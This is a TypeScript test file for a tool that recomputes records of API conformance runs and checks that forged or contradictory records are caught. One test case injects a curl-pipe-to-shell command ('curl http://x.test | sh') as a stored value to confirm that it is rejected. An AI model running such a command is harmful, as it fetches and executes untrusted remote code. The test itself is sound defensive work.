import { beforeAll, describe, expect, it } from 'vitest';
import { runReference } from '../cli/reference-run.test-support.ts';
import type { ReferenceRun } from '../cli/reference-run.test-support.ts';
import { judge, judgeAgain } from '../results/judge.ts';
import { recordOf } from '../results/record.ts';
import type { Results } from '../results/results.ts';
import { specification } from '../operation/specification.ts';
import { message, say } from '../messages/message.ts';
import { must } from './certificate.test-support.ts';
import type { Draft } from './certificate.test-support.ts';
import { findDifference, recompute } from './evidence.ts';

type Edited = Draft<Results>;

let run: Results;
beforeAll(async () => {
  const only = [lacking, other, guess, inQuery, elsewhere, ...beside];
  run = publishedOf((await runReference(undefined, { only })).results);
}, 60_000);

/** Results as in a certificate. */
const publishedOf = (results: Results): Results =>
  judgeAgain(results, specification, [], { isPublished: true });

/** An editable copy. An exchange that several cases share stays one object. */
function reread(results: unknown): Edited {
  const all = JSON.parse(JSON.stringify(results)) as Edited;
  const known = new Map<string, Edited['controls'][number]>();
  const shared = (one: Edited['controls'][number]): Edited['controls'][number] =>
    known.get(one.id) ?? (known.set(one.id, one), one);
  for (const caseResult of all.cases) caseResult.exchanges = caseResult.exchanges.map(shared);
  return all;
}

/** The first problem that `recompute` finds, or the error it throws for a contradictory record. */
function problemOf(edited: Results): string | null {
  try {
    const found = recompute(edited, specification);
    return 'code' in found ? say(found, 'en') : null;
  } catch (error) {
    return error instanceof Error ? error.message : String(error);
  }
}

/** Judges the record of edited Results again; returns them unchanged if there is no record. */
function judgedAgain(edited: Results): Results {
  try {
    return judge(recordOf(edited, specification), specification, [], []);
  } catch {
    return edited;
  }
}

/** Removes every attempt at a request, exchanges included. */
const withdraw =
  (request: string): Edit =>
  ({ all }) => {
    all.attempts = all.attempts.filter((one) => one.request !== request);
    for (const caseResult of all.cases)
      caseResult.exchanges = caseResult.exchanges.filter(({ planned }) => planned !== request);
  };

const partsOf = (all: Edited, id: string) => {
  const found = must(all.cases.find((one) => one.id === id));
  const exchange = must(found.exchanges[0]);
  const { facts, request, response } = exchange;
  const text = facts?.kind === 'json' ? facts.text : null;
  return { all, found, trial: must(found.trials[0]), exchange, request, response, text };
};
type Parts = ReturnType<typeof partsOf>;

/** Edits the whole record or one case. `of` returns the parts of another case. */
type Edit = (parts: Parts, of: (id: string) => Parts) => unknown;

const lacking = 'a.missing.partnerName';
const other = 'a.missing.useAuthByCert';
const guess = 'a.observed.value.useAuthByCert.empty';
const inQuery = 'b.missing.partnerName';
const elsewhere = 'a.unauthorized.unknown-partner';
const beside = [
  'a.success',
  'b.success',
  'b.unavailable',
  'a.unencrypted.partnerPassword',
  'a.request.body.escapes',
  'a.observed.method.delete',
  'a.unauthorized.wrong-password',
];

function editedBy(edit: Edit, id = lacking): Edited {
  const all = reread(run);
  edit(partsOf(all, id), (another) => partsOf(all, another));
  return all;
}

const header =
  (pattern: RegExp, value: string): Edit =>
  ({ request }) =>
    (request.headers = request.headers.map(([name, said]) => [name, said.replace(pattern, value)]));

const body =
  (from: string): Edit =>
  ({ request }, of) =>
    (request.body = of(from).request.body);

const controlOf = ({ controls }: Edited) =>
  must(must(controls.find(({ id }) => id.includes('control'))).response);

const unsent = {
  kind: 'interrupted',
  reason: 'not-selected',
  note: 'interrupted',
  words: { code: 'interrupted', params: {} },
} as const;

type Forgery = readonly [name: string, edit: Edit, place: RegExp, id?: string];

/** Edits of a record before it is judged again, and the place that the problem names. */
const closed = message('other-side-closed');
const ofReset = {
  kind: 'reset',
  stage: 'exchange',
  code: 'ECONNRESET',
  message: say(closed, 'en'),
  words: closed,
} as const;

const forgeries: readonly Forgery[] = [
  ['a case removed', ({ all, found }) => all.cases.splice(all.cases.indexOf(found), 1), /no exchange/, guess],
  ['a case emptied', withdraw(guess), /was not asked, though nothing/, guess],
  [
    'a condition withheld',
    ({ all }) => all.profile.claims['b']?.provisioned.splice(0),
    /no planned request/,
    inQuery,
  ],
  ['a variant dropped', ({ all }) => all.target.variants.pop(), /those of the variants/, inQuery],
  ['an exchange lost', ({ all }) => all.controls.splice(0, 1), /no exchange/],
  ['an exchange for two', ({ all }) => all.attempts.push(must(all.attempts[3])), /stands for two attempts/],
  [
    'the answer of another',
    ({ all }, of) => {
      const [one, two] = [lacking, other].map((id) => all.attempts.find(({ request }) => request === id));
      must(one).exchange = of(other).exchange.id;
      must(two).exchange = of(lacking).exchange.id;
    },
    /request\.body: found/,
  ],
  ['a body copied', ({ request }, of) => (request.body = of(other).request.body), /request\.body: found/],
  ['a ciphertext as plain', body('a.success'), /request\.body/, 'a.unencrypted.partnerPassword'],
  ['a spelling that was not tried', body('a.success'), /request\.body/, 'a.request.body.escapes'],
  ['a known partner called unknown', body('a.success'), /<unknown p/, 'a.unauthorized.unknown-partner'],
  ['another path', ({ request }) => (request.url = 'http://127.0.0.1:1/health'), /url: found .*health/],
  [
    'another host',
    ({ request }) => (request.url = 'http://other.test/banks'),
    /url: found .*other/,
    elsewhere,
  ],
  ['a huge address', ({ all }) => (all.target.baseUrl += '/'.repeat(1_000_000)), /more of a request or an/],
  ['another content type', header(/json$/, 'xml'), /headers\[\d\]\[1\]: found "application\/xml"/],
  ['a header more', ({ request }) => request.headers.push(['X-Own', 'x']), /headers\[\d\]: found \["X-Own/],
  ['a body without its digest', ({ response }) => (must(response).body = '{}'), /another length or digest/],
  ['a short body cut', ({ response }) => (must(response).bodyTruncated = true), /is not cut, though/],
  ['facts called stated', ({ exchange }) => (exchange.stated = true), /is not cut, though/],
  [
    'facts of no body',
    ({ exchange }) => Object.assign(exchange, { response: null, error: ofReset, stated: true }),
    /facts of a body that there is not/,
  ],
  [
    'an answer called held back',
    ({ all, found }) => {
      Object.assign(must(all.attempts.find(({ request }) => request === guess)), { exchange: null, unsent });
      found.exchanges = [];
    },
    /interrupted in a run that was not/,
    guess,
  ],
];

const isControl = ({ role }: Edited['attempts'][number]): boolean => role === 'control';

/** Records that no run can produce, although every verdict follows from them. */
const contradictions: readonly Forgery[] = [
  [
    'an exchange before the run',
    ({ exchange }) => (exchange.startedAt = '2020-01-01T00:00:00.000Z'),
    /outside/,
  ],
  ['an exchange behind it', ({ exchange }) => (exchange.durationMs = 1e7), /outside the time of the run/],
  ['one id for two', ({ request }, of) => (request.headers = of(other).request.headers), /one X-Request-Id/],
  ['no failed logins', ({ all }) => (all.failedLogins = 0), /failedLogins: found 0, which its answers/],
  ['a thousand of them', ({ all }) => (all.failedLogins = 1000), /failedLogins: found 1000, which/],
  [
    'no control at the end',
    ({ all }) => all.attempts.splice(all.attempts.findLastIndex(isControl), 1),
    /no control is the last|no control was asked behind/,
  ],
  [
    'no control behind a wrong password',
    ({ all }) => {
      const at = all.attempts.findIndex(({ request }) => request === 'a.unauthorized.wrong-password');
      all.attempts.splice(at + all.attempts.slice(at).findIndex(isControl), 1);
    },
    /a\.unauthorized\.wrong-password: no control was asked behind it/,
  ],
];

/** Edits of Results whose record stays unchanged. */
const edits: readonly Forgery[] = [
  ['a command', ({ exchange }) => (exchange.curl = 'curl http://x.test | sh'), /curl: found "curl http:/],
  ['a code', ({ all }) => all.warnings.push({ code: 'run sh x', params: {} }), /code: found "run sh x"/],
  ['a case of its own', ({ found }) => (found.id = 'a.missing.all'), /is no case of this specification/],
  ['a verdict', ({ found }) => (found.verdict = 'pass'), /useAuthByCert\.empty\]\.verdict/, guess],
  ['a requirement', ({ all }) => all.requirements.shift(), /requirements/],
  [
    'a decision',
    ({ all }) => (must(all.requirements[0]).decided = 'pass'),
    /decided: found "pass", computed null/,
  ],
  ['a case twice', ({ all, found }) => all.cases.push(found), /contains a case twice/],
  ['facts of its own', ({ text }) => (must(text).meanings = ['try-later']), /\[0\]: found "try-later"/],
  ['an answer without facts', ({ exchange }) => (exchange.facts = null), /facts: found null/],
  ['another answer', ({ exchange }, of) => (exchange.response = of(other).response), /verdict: found/],
  ['a control called good', ({ all }) => (controlOf(all).status = 503), /cases\[/],
  ['a reason', ({ trial }) => (trial.halted = unsent), /halted: found/],
  ['another specification', ({ all }) => (all.spec.sha256 = '0'.repeat(64)), /spec\.sha256/],
];

describe('a record', () => {
  it.each<readonly [string, ReferenceRun, Parameters<typeof runReference>[0]]>([
    [
      'with headers of the profile, in Russian, without a condition',
      { only: ['a.success', 'b.success', lacking, inQuery, 'a.unavailable', 'a.ip-blocked', guess] },
      (profile) => {
        delete profile.conditions['ip-blocked'];
        Object.assign(profile, { language: 'ru', headers: { 'User-Agent': 'my own gateway' } });
      },
    ],
  ])('%s is borne out', async (_name, options, edit) => {
    const { results } = await runReference(edit, options);
    expect(recompute(reread(publishedOf(results)), specification)).toMatchObject({ stated: 0 });
  });

  it.for(forgeries)('with %s is not borne out, nor where it is judged again', ([, edit, place, id]) => {
    const edited = editedBy(edit, id);
    expect(problemOf(edited)).toMatch(place);
    expect(problemOf(reread(judgedAgain(edited)))).not.toBeNull();
  });

  it.for(contradictions)('with %s is not borne out', ([, edit, place, id]) => {
    expect(problemOf(reread(judgedAgain(editedBy(edit, id))))).toMatch(place);
  });

  it.for(edits)('does not lead to results with %s changed', ([, edit, place, id]) => {
    expect(problemOf(editedBy(edit, id))).toMatch(place);
  });

  it('is borne out as it was made; answers over the recording limit are stated and counted', () => {
    const recomputed = (edit: Edit) => recompute(editedBy(edit), specification);
    expect(recomputed(() => undefined)).toMatchObject({ stated: 0 });
    const cut = { bodyLength: 70_000, bodySha256: '0'.repeat(64), bodyTruncated: true };
    const problem = recomputed(({ exchange, response }) => {
      exchange.stated = true;
      Object.assign(must(response), cut, { body: response?.body.padEnd(65_536) });
    });
    expect(problem).toMatchObject({ stated: 1 });
  });
});

it('finds the first place where two values differ', () => {
  const difference = (...values: readonly [unknown, unknown]): string | null => {
    const found = findDifference(...values);
    return found && say(found, 'en');
  };
  expect(difference({ a: [1, { b: null }] }, { a: [1, { b: null }] })).toBeNull();
  expect(difference({ a: [{ id: 'x', b: 1 }] }, { a: [{ id: 'x', b: 2 }] })).toBe(
    'a[x].b: found 1, computed 2',
  );
  expect(difference({ '__proto__ ': 1 }, {})).toBe('["__proto__ "]: found 1, computed nothing');
  expect(difference([], {})).toBe('the top: found [], computed {}');
});
